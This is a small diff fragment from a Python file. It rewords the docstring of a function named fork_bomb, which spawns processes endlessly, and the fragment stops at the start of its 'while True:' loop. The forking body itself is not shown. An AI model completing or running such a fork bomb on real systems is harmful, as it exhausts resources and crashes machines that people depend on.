@@ -2,7 +2,7 @@
 
 
 def fork_bomb(da, z):
-    """Each process starts two, for ever."""
+    """Each process starts two, without end."""
     import os
 
     while True:
